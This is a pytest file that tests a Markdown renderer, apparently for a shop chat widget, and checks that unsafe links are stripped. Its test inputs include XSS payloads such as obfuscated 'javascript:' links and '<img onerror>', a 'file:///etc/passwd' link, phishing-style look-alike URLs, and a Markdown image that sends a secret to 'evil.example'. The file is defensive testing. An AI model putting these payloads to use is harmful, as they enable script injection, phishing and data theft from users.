"""Markdown as the widget's tree: shapes, links that tell the truth, and bounds."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from channels.cleaning import cleaned
from channels.markup import DEEPEST, LONGEST, literal, plainly, tree


def p(*children: Any) -> list[Any]:
    return [{"t": "p", "c": list(children)}]


def a(href: str, *children: Any) -> dict[str, Any]:
    return {"t": "a", "c": list(children), "href": href}


BR = {"t": "br", "c": []}


@pytest.mark.parametrize(
    ("markdown", "nodes"),
    [
        ("", []),
        ("hello", p("hello")),
        ("one\ntwo", p("one", BR, "two")),
        ("one\n\ntwo", [*p("one"), *p("two")]),
        ("**b** *e* ~~s~~ `c`", None),
        ("# Title", [{"t": "h", "c": ["Title"]}]),
        ("> quoted", [{"t": "quote", "c": p("quoted")}]),
        ("---", [{"t": "hr", "c": []}]),
        ("```python\nx = 1\n```", [{"t": "pre", "c": ["x = 1"]}]),
        ("    indented", [{"t": "pre", "c": ["indented"]}]),
        ("- a\n- b", [{"t": "ul", "c": [{"t": "li", "c": ["a"]}, {"t": "li", "c": ["b"]}]}]),
        ("1. a\n2. b", [{"t": "ol", "c": [{"t": "li", "c": ["a"]}, {"t": "li", "c": ["b"]}]}]),
        ("2019. was a good year", p("2019. was a good year")),
        ("&lt;b&gt; &amp; 5 < 6", p("<b> & 5 < 6")),
        (r"\*not emphasis\*", p("*not emphasis*")),
        ("snake_case_name 2*3*4", None),
    ],
)
def test_a_text_has_this_tree(markdown: str, nodes: list[Any] | None) -> None:
    expected = {
        "**b** *e* ~~s~~ `c`": p(
            {"t": "strong", "c": ["b"]},
            " ",
            {"t": "em", "c": ["e"]},
            " ",
            {"t": "s", "c": ["s"]},
            " ",
            {"t": "code", "c": ["c"]},
        ),
        "snake_case_name 2*3*4": p("snake_case_name 2", {"t": "em", "c": ["3"]}, "4"),
    }
    assert tree(markdown) == (expected[markdown] if nodes is None else nodes)


def test_a_table_is_rows_of_cells() -> None:
    head = {"t": "tr", "c": [{"t": "th", "c": ["item"]}, {"t": "th", "c": ["price"]}]}
    row = {"t": "tr", "c": [{"t": "td", "c": ["shoe"]}, {"t": "td", "c": ["9"]}]}
    assert tree("| item | price |\n| --- | --- |\n| shoe | 9 |") == [{"t": "table", "c": [head, row]}]


@pytest.mark.parametrize(
    ("markdown", "children"),
    [
        ("[returns](https://shop.example/returns)", [a("https://shop.example/returns", "returns")]),
        ("[mail](mailto:help@shop.example)", [a("mailto:help@shop.example", "mail")]),
        ("[call](tel:+34910000000)", [a("tel:+34910000000", "call")]),
        ("<https://shop.example>", [a("https://shop.example", "https://shop.example")]),
        (
            "See https://shop.example/a?b=1. Thanks",
            ["See ", a("https://shop.example/a?b=1", "https://shop.example/a?b=1"), ". Thanks"],
        ),
        ("[](https://shop.example/x)", [a("https://shop.example/x", "shop.example")]),
        ("[**bold**](https://shop.example)", [a("https://shop.example", {"t": "strong", "c": ["bold"]})]),
        ("[shop.example](https://www.shop.example/x)", [a("https://www.shop.example/x", "shop.example")]),
        ("[www.shop.example](https://shop.example/x)", [a("https://shop.example/x", "www.shop.example")]),
        ("[x](http://shop.example/a)", ["x (http://shop.example/a)"]),
        ("[x](/returns)", ["x"]),
        ("[x](//evil.example)", ["x"]),
        ("[x](#top)", ["x"]),
        ("[x]()", ["x"]),
    ],
)
def test_a_link_leads_where_it_says(markdown: str, children: list[Any]) -> None:
    assert tree(markdown) == p(*children)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "\x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://shop.example/1",
        "tg://resolve?domain=x",
        "https:/\\evil.example",
        "https://bank.example@evil.example/",
        "https://evil.example\\@bank.example",
        "https://",
        "https://[::1",
        "intent://x#Intent;end",
    ],
)
def test_what_may_not_be_followed_is_no_link(href: str) -> None:
    for markdown in (f"[click]({href})", f"[click](<{href}>)", f"<{href}>"):
        assert '"href": "h' not in json.dumps(tree(markdown)).replace('"href": "https://%5Cevil', "")
        for node in links(tree(markdown)):
            assert node["href"].startswith("https://")
            assert "@" not in node["href"]


def links(nodes: list[Any]) -> list[dict[str, Any]]:
    found = []
    for node in nodes:
        if isinstance(node, dict):
            found += [node] if node["t"] == "a" else []
            found += links(node["c"])
    return found


@pytest.mark.parametrize(
    ("label", "href", "host"),
    [
        ("https://bank.example", "https://evil.example", "evil.example"),
        ("bank.example", "https://evil.example/bank.example", "evil.example"),
        ("**https://bank**.example/login", "https://evil.example", "evil.example"),
        ("go to bank.example now", "https://bank.example.evil.example", "bank.example.evil.example"),
        ("bank．example", "https://evil.example", "evil.example"),
        ("bank\u200b.example", "https://evil.example", "evil.example"),
        ("![https://bank.example](https://x.example/i.png)", "https://evil.example", "evil.example"),
        ("https://аpple.com", "https://аpple.com", "xn--pple-43d.com"),
        ("help@bank.example", "mailto:thief@evil.example", "thief@evil.example"),
    ],
)
def test_a_label_that_names_another_site_is_replaced_by_the_true_one(label: str, href: str, host: str) -> None:
    (link,) = links(tree(f"[{label}]({href})"))
    assert link["c"] == [host]


def test_images_become_their_words_and_load_nothing() -> None:
    assert tree("![a cat](https://evil.example/?d=SECRET) ok") == p("a cat ok")
    assert tree("![](https://evil.example/?d=SECRET)") == p()
    assert "evil" not in json.dumps(tree("[![x](https://evil.example/p.png)](https://shop.example)"))


@pytest.mark.parametrize(
    "html", ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<b>x</b>", "<!-- x -->"]
)
def test_html_is_text(html: str) -> None:
    assert tree(html) == p(html)
    assert tree(f"hi {html}") == p(f"hi {html}")


def test_what_nobody_can_see_is_not_there() -> None:
    assert tree("a\u202eb\U000e0041c\x00") == p("abc")


def test_literal_text_keeps_every_character() -> None:
    assert literal("**a**\n<b>\n\n\nc") == [*p("**a**", BR, "<b>"), *p("c")]
    assert literal("") == []


def test_a_very_long_text_is_shown_as_it_is() -> None:
    assert tree("**" + "x" * LONGEST) == p("**" + "x" * LONGEST)


def depth(nodes: list[Any]) -> int:
    return max((1 + depth(node["c"]) for node in nodes if isinstance(node, dict)), default=0)


@pytest.mark.parametrize(
    "piece", ["> ", "- ", "* a\n  ", "[", "![", "**a ", "*a _b ", "<", "`", "|a", "https://", "1. ", "~~a"]
)
def test_no_text_is_slow_or_deep(piece: str) -> None:
    begun = time.process_time()
    nodes = tree((piece * LONGEST)[:LONGEST])
    assert time.process_time() - begun < 2
    assert depth(nodes) <= DEEPEST + 4
    assert len(json.dumps(nodes)) < 40 * LONGEST


TYPES = {
    "p",
    "strong",
    "em",
    "code",
    "pre",
    "a",
    "ul",
    "ol",
    "li",
    "quote",
    "table",
    "tr",
    "th",
    "td",
    "br",
    "h",
    "s",
    "hr",
}


def check(nodes: list[Any]) -> None:
    for node in nodes:
        if isinstance(node, str):
            assert node
            assert cleaned(node) == node
            continue
        assert set(node) <= {"t", "c", "href"}
        assert node["t"] in TYPES
        assert ("href" in node) == (node["t"] == "a")
        assert node.get("href", "https:").partition(":")[0].lower() in {"https", "mailto", "tel"}
        check(node["c"])


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("ab*_~`[]()<>!#|-1.\n \\:/@&;https\u202e\u200b"), max_size=120) | st.text(max_size=80))
@example("```")
def test_any_text_gives_a_tree_of_the_agreed_shape(text: str) -> None:
    check(tree(text))
    check(literal(cleaned(text)))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("**bold** and `create_refund` \\*literal\\*", "bold and create_refund *literal*"),
        ("# Head\n\n- one\n- two\n\n> said", "Head\none\ntwo\nsaid"),
        ("[our shop](https://shop.example) · line\nnext", "our shop · line\nnext"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b \n1 2"),
        ("", ""),
    ],
)
def test_the_words_without_their_marks(text: str, words: str) -> None:
    assert plainly(text) == words
